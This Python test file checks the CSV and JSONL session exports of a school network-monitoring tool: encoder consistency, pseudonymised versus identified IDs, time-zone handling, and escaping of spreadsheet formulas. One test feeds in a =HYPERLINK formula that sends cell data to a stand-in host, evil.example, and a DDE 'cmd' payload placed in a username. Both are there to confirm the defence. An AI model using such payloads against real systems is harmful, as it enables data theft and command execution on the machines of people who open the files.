"""sessions.csv and sessions.jsonl: one pass, the same records as the store's own encoders."""

from __future__ import annotations

import json
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from monitor.exports.encode import EXPORT_FIELDS, LOCAL_FIELDS, LocalClock, write_sessions
from monitor.exports.pseudonyms import Pseudonymiser, alias_labeller, identity
from monitor.exports.sealed import ExportWriter
from monitor.store.ecs import ECS_FIELDS
from tests.export_helpers import rows


def test_export_encoder_matches_the_sessions_own_encoders(store):
    """On a realistic month: each JSON line is json.dumps of `to_ecs()`, each CSV row is `to_csv_row()`."""
    from monitor.exports.encode import session_encoder
    from monitor.store.ecs import labelled_ecs_dict

    checked = 0
    encode = session_encoder()
    for s in store.sessions():
        record = labelled_ecs_dict(s, s.device, s.device_mac, s.owner, s.id)
        assert record == s.to_ecs() and list(record) == list(ECS_FIELDS)
        line, row = encode(s, s.device, s.device_mac, s.owner, s.id)
        assert line == json.dumps(record, ensure_ascii=False) + "\n"
        expected = s.to_csv_row()
        assert ["" if v is None else str(v) for v in row] == [expected[k] for k in ECS_FIELDS]
        checked += 1
    assert checked > 50


@pytest.mark.parametrize(("labeller", "ids_shown"), [("identity", True), ("aliases", False)])
def test_session_ids_only_in_identified_exports(store, tmp_path, labeller, ids_shown):
    sessions = list(store.sessions())[:20]
    labels = identity if labeller == "identity" else alias_labeller(Pseudonymiser({}))
    writer = ExportWriter(tmp_path / "out")
    seen = []
    n = write_sessions(writer, sessions, labels=labels, observe=lambda s, d, o: seen.append((s.id, d, o)))
    out, _ = writer.seal({})
    data = rows(out)
    assert n == len(data) == len(seen) == 20
    assert [r["social.session_id"] != "" for r in data] == [ids_shown] * 20
    lines = (out / "sessions.jsonl").read_text().splitlines()
    assert [list(json.loads(line)) for line in lines] == [list(EXPORT_FIELDS)] * 20
    assert [d for _, d, _ in seen] == [r["host.id"] for r in data]


def test_csv_header_is_the_field_table(tmp_path):
    writer = ExportWriter(tmp_path / "out")
    assert write_sessions(writer, []) == 0
    out, _ = writer.seal({})
    assert (out / "sessions.csv").read_text() == ",".join(ECS_FIELDS + LOCAL_FIELDS) + "\n"
    assert (out / "sessions.jsonl").read_text() == ""


FORMULA_HOST = '=HYPERLINK("http://evil.example/?"&A1,"Click").youtube.com'


def test_a_formula_in_a_dns_query_reaches_every_csv_as_text(tmp_path, capsys):
    """A trust laptop asks its resolver for `=HYPERLINK(...).youtube.com` (and a proxy user signs in
    as `@SUM(...)`): through the real sensor, tagger, store, export and listing, no CSV cell the
    project writes starts like a formula, and the JSON lines keep the names as seen."""
    import csv

    from scapy.layers.dns import DNS, DNSQR
    from scapy.layers.inet import IP, UDP
    from scapy.layers.l2 import Ether

    from monitor.capture.sensor import Sensor
    from monitor.cli import main
    from monitor.observation import Observation
    from monitor.store.sqlite import open_store
    from monitor.tagging.tagger import Tagger
    from tests.conftest import london
    from tests.export_helpers import identity_trust, jsonl

    config = identity_trust(tmp_path)
    frame = bytes(Ether(src="3c:52:82:20:00:02", dst="00:00:5e:00:53:01")
                  / IP(src="10.20.10.41", dst="10.20.0.1")
                  / UDP(sport=53000, dport=53) / DNS(rd=1, qd=DNSQR(qname=FORMULA_HOST)))
    seen: list[Observation] = []
    Sensor(seen.append).feed(london(2026, 11, 2, 11, 30), 1, frame)
    seen.append(Observation(london(2026, 11, 2, 12, 20), "10.20.30.10", 50000, "198.51.100.7", 443, "tcp",
                            "tls",
                            "www.reddit.com", source="proxy", user="@SUM(1+1)*cmd|' /C calc'!A0"))
    tagger = Tagger(config)
    with open_store(config.store_path) as store:
        store.write(e for e in (tagger.tag(o) for o in seen) if e.recordable)
    base = ["--config", str(config.path)]
    day = ["--school", "ash-secondary", "--from", "2026-11-02", "--to", "2026-11-02"]
    assert main(["export", *base, *day, "--out", str(tmp_path / "aliases")]) == 0
    assert main(["export", *base, *day, "--out", str(tmp_path / "named"), "--identify", "--reason", "t"]) == 0
    assert main(["sar", *base, "--staff", "S2002", "--out", str(tmp_path / "sar")]) == 0
    capsys.readouterr()
    assert main(["events", *base, "--format", "csv", "--identified", "--reason", "t"]) == 0
    listing = capsys.readouterr().out
    tables = {name: (tmp_path / name / "sessions.csv").read_text() for name in ("aliases", "named", "sar")}
    tables["events"] = listing
    for name, text in tables.items():
        cells = [c for row in csv.reader(text.splitlines()) for c in row]
        assert f"'{FORMULA_HOST.lower()}" in cells, name
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    named = {r["social.hostnames"]: r["user.id"] for r in rows(tmp_path / "named")}
    assert named["www.reddit.com"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert FORMULA_HOST.lower() in [r["social.hostnames"][0] for r in jsonl(tmp_path / "named")]


def utc(text: str) -> float:
    return datetime.fromisoformat(text).timestamp()


@pytest.mark.parametrize(
    ("zone", "moment", "local"),
    [
        ("Europe/London", "2026-11-02T11:30:00+00:00", "2026-11-02T11:30:00+00:00"),  # GMT
        ("Europe/London", "2026-06-01T08:59:59.999+00:00", "2026-06-01T09:59:59+01:00"),  # BST, cut
        ("Europe/London", "2026-03-29T00:59:59+00:00", "2026-03-29T00:59:59+00:00"),  # a second before BST
        ("Europe/London", "2026-03-29T01:00:00+00:00", "2026-03-29T02:00:00+01:00"),  # BST starts
        ("Europe/London", "2026-10-25T00:30:00+00:00", "2026-10-25T01:30:00+01:00"),  # the first 01:30
        ("Europe/London", "2026-10-25T01:30:00+00:00", "2026-10-25T01:30:00+00:00"),  # the second
        ("Asia/Kolkata", "2026-11-02T06:00:00+00:00", "2026-11-02T11:30:00+05:30"),  # half-hour offset
        ("America/St_Johns", "2026-11-02T14:00:00+00:00", "2026-11-02T10:30:00-03:30"),  # negative
        ("UTC", "1970-01-01T00:00:00+00:00", "1970-01-01T00:00:00+00:00"),
    ],
)
def test_local_clock(zone, moment, local):
    clock = LocalClock(ZoneInfo(zone))
    assert clock.text(utc(moment)) == local
    assert clock.text(utc(moment)) == local  # and again, from the cache


def test_local_times_and_minutes_in_both_files(store, tmp_path):
    sessions = list(store.sessions())[:30]
    writer = ExportWriter(tmp_path / "out")
    write_sessions(writer, sessions, tz=ZoneInfo("Europe/London"))
    out, _ = writer.seal({})
    london = ZoneInfo("Europe/London")
    for s, row, record in zip(sessions, rows(out), [json.loads(x) for x in
                              (out / "sessions.jsonl").read_text().splitlines()], strict=True):
        start = datetime.fromtimestamp(int(s.first_seen), london).isoformat()
        assert row["social.local_start"] == record["social.local_start"] == start
        assert record["social.local_end"] == datetime.fromtimestamp(int(s.last_seen), london).isoformat()
        minutes = round((s.last_seen - s.first_seen) / 60, 2)
        assert record["social.minutes"] == float(row["social.minutes"]) == minutes
        assert record["social.local_start"][:10] == s.local_date  # the school's day, as the store files it
